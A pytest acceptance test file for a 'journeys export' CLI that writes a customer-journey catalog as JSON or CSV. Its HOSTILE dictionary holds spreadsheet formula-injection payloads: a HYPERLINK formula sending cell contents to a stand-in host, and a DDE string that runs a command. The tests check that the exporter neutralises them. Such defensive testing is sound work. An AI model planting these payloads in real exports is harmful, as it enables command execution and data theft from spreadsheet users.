"""Acceptance: `journeys export` writes the normalized catalog as JSON, or CSV tables that open
cleanly in a spreadsheet."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from generator.model.export import spreadsheet_safe
from tests.support import journey, write_catalog

from .test_validate_cli import REPO, run

HOSTILE = {
    "title": '=HYPERLINK("http://x.example/?"&A1,"Click")',
    "name": "+cmd|' /C calc'!A0",
    "promise": "@SUM(1+1)",
    "gap": "-2+3",
}


def hostile_catalog(tmp_path: Path) -> Path:
    data = journey(title=HOSTILE["title"])
    touchpoint = data["stages"][0]["touchpoints"][0]
    touchpoint.update(name=HOSTILE["name"], promise=HOSTILE["promise"], data_gaps=[HOSTILE["gap"]],
                      emotion=-1)  # fmt: skip
    write_catalog(tmp_path, [data])
    return tmp_path


def read(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "a byte-order mark tells spreadsheets it is UTF-8"
    return list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))


def test_json_is_the_normalized_catalog(tmp_path: Path) -> None:
    write_catalog(tmp_path)
    done = run("export", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    data = json.loads(done.stdout)
    assert data["version"] == 1
    assert [j["id"] for j in data["journeys"]] == ["open-account"]
    assert data["journeys"][0]["file"] == "journeys/retail/open-account.yaml"
    out = tmp_path / "catalog.json"
    assert run("export", "--out", str(out), cwd=tmp_path).returncode == 0
    assert json.loads(out.read_text(encoding="utf-8")) == data


def test_csv_tables_hold_every_journey_touchpoint_pain_point_and_value(tmp_path: Path) -> None:
    write_catalog(tmp_path)
    done = run("export", "--format", "csv", "--out", "tables", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    folder = tmp_path / "tables"
    assert sorted(p.name for p in folder.iterdir()) == [
        ".journeys-output", "journeys.csv", "metrics.csv", "pain-points.csv", "touchpoints.csv"
    ]  # fmt: skip
    (row,) = read(folder / "journeys.csv")
    assert (row["id"], row["touchpoints"], row["pain_points"]) == ("open-account", "3", "1")
    assert [t["id"] for t in read(folder / "touchpoints.csv")] == ["compare", "apply", "call"]
    (pain,) = read(folder / "pain-points.csv")
    assert (pain["touchpoint"], pain["id"], pain["sources"]) == (
        "compare",
        "hidden-fee",
        "call-center",
    )
    (score,) = read(folder / "metrics.csv")
    assert (score["stage"], score["touchpoint"], score["target"], score["actual"]) == (
        "discover", "", "4.5", "4.1"
    )  # fmt: skip


def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    hostile_catalog(tmp_path)
    assert run("export", "--format", "csv", "--out", "t", cwd=tmp_path).returncode == 0
    (row,) = read(tmp_path / "t" / "journeys.csv")
    assert row["title"] == "'" + HOSTILE["title"]
    touchpoint = read(tmp_path / "t" / "touchpoints.csv")[0]
    assert touchpoint["name"] == "'" + HOSTILE["name"]
    assert touchpoint["promise"] == "'" + HOSTILE["promise"]
    assert touchpoint["data_gaps"] == "'" + HOSTILE["gap"]
    assert touchpoint["emotion"] == "-1", "a number stays a number"


def test_spreadsheet_safe_cells() -> None:
    assert spreadsheet_safe("=1+1") == "'=1+1"
    assert spreadsheet_safe("\t=1") == "'\t=1"
    assert spreadsheet_safe(["a", "b"]) == "a; b"
    assert spreadsheet_safe(("@x",)) == "'@x"
    assert spreadsheet_safe(-3) == -3
    assert spreadsheet_safe(None) == ""
    assert spreadsheet_safe(True) == "true"
    assert spreadsheet_safe("plain - text") == "plain - text"


def test_nothing_is_written_while_the_catalog_has_errors(tmp_path: Path) -> None:
    data = journey()
    data["stages"][0]["touchpoints"][0]["owner"] = "digtal"
    write_catalog(tmp_path, [data])
    done = run("export", "--format", "csv", "--out", "t", cwd=tmp_path)
    assert done.returncode == 1
    assert "unknown silo 'digtal'" in done.stderr
    assert done.stdout == ""
    assert not (tmp_path / "t").exists()
    assert run("export", cwd=tmp_path).stdout == ""


def test_csv_needs_a_folder(tmp_path: Path) -> None:
    write_catalog(tmp_path)
    done = run("export", "--format", "csv", cwd=tmp_path)
    assert done.returncode == 2
    assert "--out" in done.stderr
    (tmp_path / "file").write_text("x")
    assert run("export", "--format", "csv", "--out", "file", cwd=tmp_path).returncode == 2


def test_an_output_that_cannot_be_written_is_one_line(tmp_path: Path) -> None:
    write_catalog(tmp_path)
    done = run("export", "--out", "no/such/folder/catalog.json", cwd=tmp_path)
    assert (done.returncode, done.stdout) == (2, "")
    assert done.stderr.endswith(
        "journeys: cannot write no/such/folder/catalog.json: No such file or directory\n"
    )
    (tmp_path / "taken").write_text("a file\n")
    done = run("export", "--format", "csv", "--out", "taken/tables", cwd=tmp_path)
    assert (done.returncode, done.stdout) == (2, "")
    assert done.stderr.endswith(
        "journeys: cannot write the tables to taken/tables/: Not a directory\n"
    )


def test_files_are_named_from_the_catalog_folder_wherever_the_command_runs(tmp_path: Path) -> None:
    catalog = (REPO / "journeys").absolute()
    done = run("export", "--catalog", str(catalog), cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    journeys = json.loads(done.stdout)["journeys"]
    files = {
        point["measured_in"]
        for journey in journeys
        for stage in journey["stages"]
        for score in [*stage["metrics"], *(m for t in stage["touchpoints"] for m in t["metrics"])]
        for point in score["history"]
    }
    assert files == {None, "measurements/survey-scores-2025q4-2026q3.csv"}
    assert {j["file"] for j in journeys} >= {"journeys/cards/report-lost-card.yaml"}
    assert all(j["file"].startswith("journeys/") for j in journeys), "no path of this machine"
    tables = run("export", "--catalog", str(catalog), "--format", "csv", "--out", "t", cwd=tmp_path)
    assert tables.returncode == 0, tables.stderr
    rows = read(tmp_path / "t" / "metrics.csv")
    assert {r["measured_in"] for r in rows} == {"", "measurements/survey-scores-2025q4-2026q3.csv"}
    listed = read(tmp_path / "t" / "journeys.csv")
    assert {r["file"] for r in listed} == {j["file"] for j in journeys}
